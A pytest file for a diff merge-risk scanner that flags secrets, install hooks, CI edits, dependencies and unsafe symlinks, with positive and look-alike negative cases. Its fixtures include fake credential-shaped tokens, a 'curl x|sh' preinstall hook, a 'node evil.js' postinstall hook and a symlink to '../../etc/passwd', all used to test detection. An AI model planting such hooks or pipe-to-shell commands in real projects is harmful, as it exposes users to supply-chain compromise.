"""The merge-risk scan, case by case: each kind it reports, and look-alikes it must not report.

Every case is a one-file diff; the test asserts the exact set of ``(kind, severity, line)``
findings, so a case that should find nothing fails on any finding. Secret-looking values are
assembled from pieces so that this file itself holds no whole token.
"""

from __future__ import annotations

import pytest

from foreman.risk import area_from_text, has_critical, scan, summary
from protocol.diff import Diff, DiffFile, DiffHunk, DiffLine

AWS = "AKIA" + "Q3EGRIEXK4ZJ7M2P"
GHP = "ghp_" + "r8Tn2XbQ9vLk4WmZ7yHc1PsD6fGj3Ae5Ku0N"
SLACK = "xoxb-" + "2048193756-" + "4096381275-" + "kQ8mZr2Xt7VpLw3N9cYbHs6D"
STRIPE = "sk_live_" + "51Hc8QwErTy9UiOpAsDfGhJk"
HIGH_B64 = "q9X2v" + "Lr7KpZ3mWc8TnY4bHs6DfQ1gJ0aE5uIo"
PEM = "-----BEGIN " + "RSA PRIVATE KEY-----"
JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ."
       + "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")


def file(path: str, lines: list[str] | None = None, *, status: str = "added", old_mode: str | None = None,
         new_mode: str | None = "100644", binary: bool = False, additions: int | None = None) -> DiffFile:
    """A one-hunk file whose ``lines`` are all added, starting at line 1."""
    lines = lines or []
    hunk = DiffHunk(old_start=0, old_lines=0, new_start=1, new_lines=len(lines),
                    lines=[DiffLine(op="+", text=t, new=i + 1) for i, t in enumerate(lines)])
    return DiffFile(path=path, status=status, old_mode=old_mode, new_mode=new_mode, binary=binary,
                    additions=len(lines) if additions is None else additions, hunks=[hunk] if lines else [])


def found(f: DiffFile, **kw) -> set[tuple[str, str, int | None]]:
    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=[f], files_changed=1)
    return {(r.kind, r.severity, r.line) for r in scan(diff, **kw)}


CASES: list[tuple[str, DiffFile, set]] = [
    # --- secrets: well-known shapes (critical) ---
    ("aws key", file("src/settings.py", ["import os", f'AWS_ACCESS_KEY_ID = "{AWS}"']), {("secret", "critical", 2)}),
    ("github token", file("deploy.sh", ["#!/bin/sh", f"export GH={GHP}"]), {("secret", "critical", 2)}),
    ("slack token", file("bot/config.js", [f"const slack = '{SLACK}';"]), {("secret", "critical", 1)}),
    ("stripe live key", file("pay.rb", [f'Stripe.api_key = "{STRIPE}"']), {("secret", "critical", 1)}),
    ("jwt", file("client.ts", [f'const auth = "{JWT}";']), {("secret", "critical", 1)}),
    ("private key armour", file("notes/deploy.md", ["key:", PEM, "MIIEpAIBAAKCAQEA..."]), {("secret", "critical", 2)}),
    ("password assignment", file("db.py", ['password = "Tr0ub4dor&3x!"']), {("secret", "critical", 1)}),
    ("basic auth url", file("fetch.py", ['URL = "https://admin:s3cr3tPassw0rd@db.internal.net/x"']), {("secret", "critical", 1)}),
    # --- secrets: entropy (high) ---
    ("high entropy string", file("app/const.py", [f'SIGNING = "{HIGH_B64}"']), {("secret", "high", 1)}),
    # --- secret files ---
    ("pem file", file("certs/server.pem", ["MIIB"]), {("secret", "critical", None)}),
    ("id_rsa", file("keys/id_rsa", ["abc"]), {("secret", "critical", None)}),
    ("dotenv", file(".env", ["DEBUG=1"]), {("secret", "high", None)}),
    ("dotenv production", file("web/.env.production", ["LOG=info"]), {("secret", "high", None)}),
    # --- secrets: negatives ---
    ("fake_key placeholder", file("tests/fixtures.py", ['fake_key = "placeholder"']), set()),
    ("your-api-key placeholder", file("README.md", ['api_key = "<your-api-key>"']), set()),
    ("aws documented example", file("docs/aws.md", ['aws_access_key_id = "AKIAIOSFODNN7EXAMPLE"']), set()),
    ("env lookup", file("settings.py", ['password = os.environ["DB_PASSWORD"]']), set()),
    ("templated value", file("config.yml", ["password: ${DB_PASSWORD}"]), set()),
    ("uuid", file("ids.py", ['REQUEST_ID = "123e4567-e89b-12d3-a456-426614174000"']), set()),
    ("env template", file(".env.example", ["API_KEY=changeme"]), set()),
    ("public key file", file("keys/id_rsa.pub", ["ssh-rsa AAAA"]), set()),
    ("removed secret is not new", DiffFile(path="old.py", status="modified", old_mode="100644", new_mode="100644", deletions=1,
                                           hunks=[DiffHunk(old_start=1, old_lines=1, new_start=1, new_lines=0,
                                                           lines=[DiffLine(op="-", text=f'KEY = "{AWS}"', old=1)])]), set()),
    ("basic auth placeholder in docs", file("docs/proxy.md", ["Use ``https://user:pass@host/`` for a proxy."]), set()),
    ("password equal to its name", file("settings.py", ['password = "password"']), set()),
    ("plain code", file("src/tags.py", ["def normalise(tag: str) -> str:", "    return tag.strip().lower()"]), set()),
    ("repeated x", file("conf.ini", ["token = xxxxxxxxxxxxxxxxxxxxxxxx"]), set()),
    # --- install hooks ---
    ("npm postinstall", file("package.json", ["{", '  "scripts": {', '    "postinstall": "node setup.js"', "  }", "}"]),
     {("install_hook", "critical", 3)}),
    ("npm prepare", file("web/package.json", ['    "prepare": "husky install"']), {("install_hook", "critical", 1)}),
    ("npm test script only", file("package.json", ['    "test": "jest"']), set()),
    ("setup.py cmdclass", file("setup.py", ["setup(", "    cmdclass={'install': Custom},", ")"]), {("install_hook", "critical", 2)}),
    ("pyproject build backend", file("pyproject.toml", ["[build-system]", 'requires = ["hatchling"]', 'build-backend = "hatchling.build"']),
     {("install_hook", "critical", 1), ("install_hook", "critical", 2), ("install_hook", "critical", 3)}),
    ("husky hook", file(".husky/pre-commit", ["npm test"]), {("install_hook", "critical", None)}),
    ("githooks folder", file("hooks/post-checkout", ["./bootstrap.sh"]), {("install_hook", "critical", None)}),
    ("react hooks are not git hooks", file("src/hooks/useTags.js", ["export function useTags() {}"]), set()),
    ("npmrc token", file(".npmrc", ["//registry.npmjs.org/:_authToken=${NPM_TOKEN}"]), {("install_hook", "critical", 1)}),
    ("npmrc harmless", file(".npmrc", ["save-exact=true"]), {("install_hook", "high", None)}),
    ("pypirc", file(".pypirc", ["[distutils]", "index-servers = pypi"]), {("install_hook", "high", None)}),
    ("pre-commit config", file(".pre-commit-config.yaml", ["repos: []"]), {("install_hook", "high", None)}),
    ("cargo build script", file("build.rs", ["fn main() {}"]), {("install_hook", "critical", None)}),
    # --- CI ---
    ("github workflow", file(".github/workflows/ci.yml", ["on: push"]), {("ci", "high", None)}),
    ("gitlab ci", file(".gitlab-ci.yml", ["test:", "  script: make"]), {("ci", "high", None)}),
    ("jenkinsfile", file("Jenkinsfile", ["pipeline {}"]), {("ci", "high", None)}),
    ("workflow-like doc is not CI", file("docs/workflows/ci.yml.md", ["about CI"]), set()),
    # --- dependencies ---
    ("requirements added", file("requirements.txt", ["requests==2.32.0", "# pinned", "leftpad>=1.0"]), {("dependency", "medium", 1)}),
    ("package.json dependency", file("package.json", ['    "lodash": "^4.17.21",']), {("dependency", "medium", 1)}),
    ("package.json name is not a dep", file("package.json", ['  "name": "my-app",', '  "version": "1.0.0",']), set()),
    ("lock file", file("poetry.lock", ["[[package]]", 'name = "requests"']), {("dependency", "medium", None)}),
    ("go.mod require", file("go.mod", ["require github.com/pkg/errors v0.9.1"]), {("dependency", "medium", 1)}),
    ("Gemfile gem", file("Gemfile", ["gem 'rails', '~> 7.1'"]), {("dependency", "medium", 1)}),
    ("cargo dependency", file("Cargo.toml", ["[dependencies]", 'serde = "1.0"']), {("dependency", "medium", 2)}),
    # issue 15: manifests read from their content, not only line by line
    ("minified package.json hook and dependency",
     file("package.json", ['{"name":"x","scripts":{"postinstall":"node evil.js"},"dependencies":{"left-pad":"1.0.0"}}']),
     {("install_hook", "critical", 1), ("dependency", "medium", 1)}),
    ("minified package.json without hooks or deps", file("package.json", ['{"name":"x","scripts":{"test":"jest"}}']), set()),
    ("pyproject inline dependency list", file("pyproject.toml", ["[project]", 'name = "x"', 'dependencies = ["httpx>=0.27", "rich"]']),
     {("dependency", "medium", 3)}),
    # issue 15: AWS secret keys in an .ini file (the published example is a placeholder, a real-shaped one is not)
    ("aws example secret in ini", file("settings.ini", ["[default]", "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"]),
     set()),
    ("aws real-shaped secret in ini", file("settings.ini", ["[default]", "aws_secret_access_key = " + "q7Rm2ZxT9bLw/K4pNc8V" + "/hYs3DfGj6Ku1Ea5Wo0B"]),
     {("secret", "critical", 2)}),
    # --- modes, symlinks, size, binaries ---
    ("new executable", file("scripts/run.sh", ["#!/bin/sh", "echo hi"], new_mode="100755"), {("executable", "medium", None)}),
    ("made executable", file("tool.py", [], status="modified", old_mode="100644", new_mode="100755"), {("executable", "medium", None)}),
    ("already executable", file("tool.py", ["x = 1"], status="modified", old_mode="100755", new_mode="100755"), set()),
    ("symlink outside", file("data/link", ["../../etc/passwd"], status="symlink", new_mode="120000"), {("symlink", "high", None)}),
    ("absolute symlink", file("home", ["/home/ada"], status="symlink", new_mode="120000"), {("symlink", "high", None)}),
    ("symlink inside", file("docs/latest", ["../docs/v2"], status="symlink", new_mode="120000"), set()),
    ("large text file", file("data/dump.csv", [], additions=25_000), {("large_file", "medium", None)}),
    ("binary image", file("assets/logo.png", [], binary=True), {("binary", "low", None)}),
    ("binary executable", file("bin/tool.exe", [], binary=True), {("binary", "medium", None)}),
    ("deleted workflow", DiffFile(path=".github/workflows/ci.yml", status="deleted", old_mode="100644", deletions=3), {("ci", "high", None)}),
]


@pytest.mark.parametrize(("name", "f", "expected"), CASES, ids=[c[0] for c in CASES])
def test_case(name: str, f: DiffFile, expected: set) -> None:
    assert found(f) == expected


def test_table_has_forty_cases_with_negatives() -> None:
    assert len(CASES) >= 40
    assert sum(1 for _, _, e in CASES if not e) >= 12


def test_large_file_by_size() -> None:
    f = file("model.bin", [], binary=True)
    assert ("large_file", "medium", None) in found(f, sizes={"model.bin": 5 * 1024 * 1024})
    assert ("large_file", "medium", None) not in found(f, sizes={"model.bin": 1024})


def test_outside_area_is_one_summary() -> None:
    files = [file("notes/tags.py", ["x = 1"]), file("billing/invoice.py", ["y = 2"]), file("billing/tax.py", ["z = 3"]),
             file("tests/test_tags.py", ["def test(): pass"])]
    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=files, files_changed=4)
    area = area_from_text("Add tag normalisation in notes/tags.py")
    assert "notes/" in area
    risks = scan(diff, area=area)
    outside = [r for r in risks if r.kind == "outside_area"]
    assert len(outside) == 1 and outside[0].severity == "low"
    assert "2 file(s)" in outside[0].message and "billing/invoice.py" in outside[0].message
    assert not [r for r in scan(diff, area=None) if r.kind == "outside_area"]


def test_secret_value_never_in_message_and_order() -> None:
    files = [file("a.py", ["x = 1"], new_mode="100755"), file("b.py", [f'K = "{AWS}"'])]
    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=files, files_changed=2)
    risks = scan(diff)
    assert [r.severity for r in risks] == ["critical", "medium"]
    assert AWS not in risks[0].message and AWS[4:] not in summary(risks)
    assert has_critical(risks)
    assert "b.py:1" in summary(risks)


def _names(f: DiffFile, **kw) -> str:
    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=[f], files_changed=1)
    deps = [r for r in scan(diff, **kw) if r.kind == "dependency"]
    assert len(deps) == 1, deps
    return deps[0].message


@pytest.mark.parametrize(("path", "lines", "names"), [
    ("package.json", ['{"dependencies":{"left-pad":"1.0.0"},"devDependencies":{"jest":"^29"}}'], ["left-pad", "jest"]),
    ("package.json", ["{", '  "dependencies": {', '    "lodash": "^4.17.21"', "  }", "}"], ["lodash"]),
    ("pyproject.toml", ["[project]", 'dependencies = ["httpx>=0.27", "rich[jupyter]~=13.0"]',
                        "[project.optional-dependencies]", 'dev = ["pytest"]'], ["httpx", "rich", "pytest"]),
    ("requirements-dev.txt", ["# tools", "-r requirements.txt", "ruff==0.5.0", "mypy"], ["ruff", "mypy"]),
    ("Cargo.toml", ["[package]", 'name = "x"', "[dependencies]", 'serde = { version = "1", features = ["derive"] }',
                    "[dev-dependencies]", 'proptest = "1"'], ["serde", "proptest"]),
])
def test_dependency_finding_names_the_packages(path: str, lines: list[str], names: list[str]) -> None:
    message = _names(file(path, lines))
    for n in names:
        assert n in message
    assert "name" not in message.split(":", 1)[1].replace("names", "")  # the package's own name field is no dependency


def test_changed_manifest_names_only_what_changed() -> None:
    """With the old and new contents known, only added or changed dependencies and hooks count."""
    old = '{"name":"x","scripts":{"test":"jest"},"dependencies":{"keep":"1.0.0","bump":"1.0.0"}}'
    new = '{"name":"x","scripts":{"test":"jest","preinstall":"curl x|sh"},"dependencies":{"keep":"1.0.0","bump":"2.0.0","fresh":"^3"}}'
    f = DiffFile(path="package.json", status="modified", old_mode="100644", new_mode="100644", additions=1, deletions=1,
                 hunks=[DiffHunk(old_start=1, old_lines=1, new_start=1, new_lines=1,
                                 lines=[DiffLine(op="-", text=old, old=1), DiffLine(op="+", text=new, new=1)])])
    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=[f], files_changed=1)
    risks = scan(diff, contents={"package.json": (old, new)})
    hooks = [r for r in risks if r.kind == "install_hook"]
    assert [(r.severity, r.line) for r in hooks] == [("critical", 1)] and "preinstall" in hooks[0].message
    (dep,) = [r for r in risks if r.kind == "dependency"]
    assert "bump" in dep.message and "fresh" in dep.message and "keep" not in dep.message
    # the same hook already present before is not a new risk
    same = scan(diff, contents={"package.json": (new, new)})
    assert not [r for r in same if r.kind in ("install_hook", "dependency")]
